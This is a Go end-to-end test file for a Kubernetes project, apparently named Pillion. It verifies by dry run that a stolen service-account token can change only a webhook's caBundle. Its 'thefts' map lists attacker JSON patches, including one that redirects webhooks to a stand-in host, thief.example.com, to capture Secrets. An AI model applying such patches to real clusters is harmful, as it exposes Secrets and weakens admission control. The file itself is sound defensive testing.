package e2e

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"maps"
	"reflect"
	"slices"
	"strings"
	"testing"

	admissionregistrationv1 "k8s.io/api/admissionregistration/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/rest"

	"github.com/pillion-dev/pillion/e2e/ground"
)

// system is the name of a service account as a user.
func system(namespace, account string) string {
	return "system:serviceaccount:" + namespace + ":" + account
}

// thefts are JSON patches of a webhook configuration that a thief of Pillion's token could
// want. They are valid for both kinds.
var thefts = map[string]string{
	"an entry for Secrets that calls a server of the thief": `[{"op":"add","path":"/webhooks/-","value":{"name":"x.thief.example.com","clientConfig":{"url":"https://thief.example.com/"},` +
		`"rules":[{"apiGroups":[""],"apiVersions":["v1"],"operations":["CREATE"],"resources":["secrets"]}],"sideEffects":"None","admissionReviewVersions":["v1"]}}]`,
	"another server":                         `[{"op":"replace","path":"/webhooks/0/clientConfig","value":{"url":"https://thief.example.com/"}}]`,
	"another Service":                        `[{"op":"replace","path":"/webhooks/0/clientConfig/service/name","value":"thief"}]`,
	"another path":                           `[{"op":"replace","path":"/webhooks/0/clientConfig/service/path","value":"/thief"}]`,
	"reviews of Secrets":                     `[{"op":"replace","path":"/webhooks/0/rules","value":[{"apiGroups":[""],"apiVersions":["v1"],"operations":["CREATE"],"resources":["secrets"],"scope":"Namespaced"}]}]`,
	"a failurePolicy":                        `[{"op":"replace","path":"/webhooks/0/failurePolicy","value":"Fail"},{"op":"replace","path":"/webhooks/1/failurePolicy","value":"Ignore"}]`,
	"a matchPolicy":                          `[{"op":"replace","path":"/webhooks/0/matchPolicy","value":"Exact"}]`,
	"every namespace":                        `[{"op":"replace","path":"/webhooks/1/namespaceSelector","value":{}}]`,
	"no pod":                                 `[{"op":"replace","path":"/webhooks/0/objectSelector","value":{"matchLabels":{"a":"b"}}}]`,
	"another timeout":                        `[{"op":"replace","path":"/webhooks/0/timeoutSeconds","value":30}]`,
	"a condition":                            `[{"op":"add","path":"/webhooks/0/matchConditions","value":[{"name":"never","expression":"false"}]}]`,
	"other side effects":                     `[{"op":"replace","path":"/webhooks/1/sideEffects","value":"None"},{"op":"replace","path":"/webhooks/0/sideEffects","value":"NoneOnDryRun"}]`,
	"other versions":                         `[{"op":"replace","path":"/webhooks/0/admissionReviewVersions","value":["v1"]}]`,
	"another name":                           `[{"op":"replace","path":"/webhooks/0/name","value":"x.thief.example.com"}]`,
	"an entry less":                          `[{"op":"remove","path":"/webhooks/1"}]`,
	"no entry":                               `[{"op":"replace","path":"/webhooks","value":[]}]`,
	"a label":                                `[{"op":"add","path":"/metadata/labels/x","value":"y"}]`,
	"an annotation":                          `[{"op":"add","path":"/metadata/annotations","value":{"cert-manager.io/inject-ca-from-secret":"a/b"}}]`,
	"no owners of fields":                    `[{"op":"replace","path":"/metadata/managedFields","value":[{}]}]`,
	"an owner of fields less":                `[{"op":"remove","path":"/metadata/managedFields/0"}]`,
	"an owner of fields more":                `[{"op":"add","path":"/metadata/managedFields/-","value":{"manager":"x","operation":"Apply","apiVersion":"admissionregistration.k8s.io/v1","fieldsType":"FieldsV1","fieldsV1":{"f:metadata":{"f:labels":{"f:helm.sh/chart":{}}}}}}]`,
	"a finalizer":                            `[{"op":"add","path":"/metadata/finalizers","value":["thief.example.com/never"]}]`,
	"an owner, by deletion of which it goes": `[{"op":"add","path":"/metadata/ownerReferences","value":[{"apiVersion":"v1","kind":"Namespace","name":"x","uid":"y"}]}]`,
}

// steal tries patches of both configurations by dry run, and returns the error of each.
func steal(t *testing.T, user, name string, patches map[string]string) map[string]error {
	t.Helper()
	as := rest.CopyConfig(config)
	if user != "" {
		as.Impersonate = rest.ImpersonationConfig{UserName: user, Groups: []string{"system:serviceaccounts", "system:authenticated"}}
	}
	c, err := kubernetes.NewForConfig(as)
	if err != nil {
		t.Fatal(err)
	}
	errs := map[string]error{}
	api, options := c.AdmissionregistrationV1(), metav1.PatchOptions{DryRun: []string{metav1.DryRunAll}}
	for what, patch := range patches {
		_, errs["mutating: "+what] = api.MutatingWebhookConfigurations().Patch(t.Context(), name, types.JSONPatchType, []byte(patch), options)
		_, errs["validating: "+what] = api.ValidatingWebhookConfigurations().Patch(t.Context(), name, types.JSONPatchType, []byte(patch), options)
	}
	return errs
}

// RBAC gives Pillion the right to patch its webhook configurations, and the chart's policy
// leaves it the caBundle.
func TestAStolenTokenCanChangeNothingOfAWebhookConfigurationButTheCABundle(t *testing.T) {
	t.Parallel()
	account := system(ground.Namespace, "pillion")
	reinvocation := map[string]string{"reinvocation": `[{"op":"replace","path":"/webhooks/0/reinvocationPolicy","value":"Never"}]`}
	for what, err := range steal(t, "", configuration, thefts) {
		if err != nil {
			t.Errorf("an admin: %s: %v; this patch shows nothing", what, err)
		}
	}
	all := steal(t, account, configuration, thefts)
	maps.Copy(all, steal(t, account, configuration, reinvocation))
	delete(all, "validating: reinvocation") // it has no such field
	for what, err := range all {
		if !apierrors.IsInvalid(err) && !apierrors.IsForbidden(err) || !strings.Contains(err.Error(), "ValidatingAdmissionPolicy") {
			t.Errorf("%s: %v, want it refused by the policy", what, err)
		}
	}
	bundle, err := publishedBundle(t)
	if err != nil {
		t.Fatal(err)
	}
	allowed := map[string]string{"the caBundle": fmt.Sprintf(`[{"op":"remove","path":"/webhooks/0/clientConfig/caBundle"},{"op":"add","path":"/webhooks/1/clientConfig/caBundle","value":%q}]`, base64.StdEncoding.EncodeToString(bundle))}
	for what, err := range steal(t, account, configuration, allowed) {
		if err != nil {
			t.Errorf("%s: %v, want it allowed", what, err)
		}
	}
}

// certs.webhookConfigurations may name a configuration that others share.
func TestAStolenTokenCannotChangeTheCABundleOfAnothersEntry(t *testing.T) {
	t.Parallel()
	name := unique("shared")
	entry := func(name string, c admissionregistrationv1.WebhookClientConfig) admissionregistrationv1.MutatingWebhook {
		return admissionregistrationv1.MutatingWebhook{
			Name: name, ClientConfig: c, SideEffects: new(admissionregistrationv1.SideEffectClassNone), AdmissionReviewVersions: []string{"v1"},
			ObjectSelector: &metav1.LabelSelector{MatchLabels: map[string]string{"never": "there"}},
		}
	}
	own := &admissionregistrationv1.ServiceReference{Namespace: ground.Namespace, Name: "pillion"}
	object := &admissionregistrationv1.MutatingWebhookConfiguration{ObjectMeta: metav1.ObjectMeta{Name: name}, Webhooks: []admissionregistrationv1.MutatingWebhook{
		entry("own.example.com", admissionregistrationv1.WebhookClientConfig{Service: own}),
		entry("url.example.com", admissionregistrationv1.WebhookClientConfig{URL: new("https://127.0.0.1:1/")}),
		entry("other.example.com", admissionregistrationv1.WebhookClientConfig{Service: &admissionregistrationv1.ServiceReference{Namespace: ground.Namespace, Name: "other"}}),
	}}
	api, rbac := client.AdmissionregistrationV1().MutatingWebhookConfigurations(), client.RbacV1()
	_, err := api.Create(t.Context(), object, metav1.CreateOptions{})
	role := &rbacv1.ClusterRole{ObjectMeta: metav1.ObjectMeta{Name: name}, Rules: []rbacv1.PolicyRule{{
		APIGroups: []string{registrationGroup}, Resources: []string{"mutatingwebhookconfigurations"}, ResourceNames: []string{name}, Verbs: []string{"patch"},
	}}}
	_, roleErr := rbac.ClusterRoles().Create(t.Context(), role, metav1.CreateOptions{})
	binding := &rbacv1.ClusterRoleBinding{
		ObjectMeta: metav1.ObjectMeta{Name: name}, RoleRef: rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: name},
		Subjects: []rbacv1.Subject{{Kind: "ServiceAccount", Namespace: ground.Namespace, Name: "pillion"}},
	}
	_, bindingErr := rbac.ClusterRoleBindings().Create(t.Context(), binding, metav1.CreateOptions{})
	t.Cleanup(func() {
		ctx := context.Background()
		err := errors.Join(api.Delete(ctx, name, metav1.DeleteOptions{}), rbac.ClusterRoles().Delete(ctx, name, metav1.DeleteOptions{}), rbac.ClusterRoleBindings().Delete(ctx, name, metav1.DeleteOptions{}))
		if err != nil {
			t.Error(err)
		}
	})
	if err := errors.Join(err, roleErr, bindingErr); err != nil {
		t.Fatal(err)
	}
	bundle, err := publishedBundle(t)
	if err != nil {
		t.Fatal(err)
	}
	set := func(entry int) error {
		patch := fmt.Sprintf(`[{"op":"add","path":"/webhooks/%d/clientConfig/caBundle","value":%q}]`, entry, base64.StdEncoding.EncodeToString(bundle))
		return steal(t, system(ground.Namespace, "pillion"), name, map[string]string{"": patch})["mutating: "]
	}
	eventually(t, soon, func() error { return set(0) }) // its own; the right takes a moment
	for _, other := range []int{1, 2} {
		if err := set(other); err == nil || !strings.Contains(err.Error(), "ValidatingAdmissionPolicy") {
			t.Errorf("the caBundle of entry %d: %v, want it refused by the policy", other, err)
		}
	}
}

// A field that a newer Kubernetes gives to webhooks has to be named in the policy, too.
func TestThePolicyNamesEveryFieldOfAWebhook(t *testing.T) {
	t.Parallel()
	policy := policies(t, render(t))["cabundle"]
	text, err := json.Marshal(policy.Spec.Validations)
	if err != nil {
		t.Fatal(err)
	}
	for _, kind := range []reflect.Type{reflect.TypeFor[admissionregistrationv1.MutatingWebhook](), reflect.TypeFor[admissionregistrationv1.ValidatingWebhook](), reflect.TypeFor[admissionregistrationv1.WebhookClientConfig]()} {
		for i := range kind.NumField() {
			name, _, _ := strings.Cut(kind.Field(i).Tag.Get("json"), ",")
			if !strings.Contains(string(text), "w.?"+name) && !strings.Contains(string(text), "w."+name) && !strings.Contains(string(text), "w.clientConfig.?"+name) {
				t.Errorf("the policy does not name %s.%s", kind.Name(), name)
			}
		}
	}
	for _, c := range []struct {
		sets []string
		want bool
	}{
		{nil, true},
		{[]string{"rbac.admissionPolicy=false"}, false},
		{[]string{"certs.provider=cert-manager"}, false},
		{[]string{"certs.provider=cert-manager", "certs.certManager.cainjector=false", "certs.certManager.publish=true"}, true},
		{hardened["files"], false},
	} {
		if _, ok := policies(t, render(t, c.sets...))["cabundle"]; ok != c.want {
			t.Errorf("with %q there is a policy: %t, want %t", c.sets, !c.want, c.want)
		}
	}
	if !slices.Contains(policy.Spec.MatchConstraints.ResourceRules[0].Resources, "mutatingwebhookconfigurations") {
		t.Error("the policy is not about mutating webhooks")
	}
}
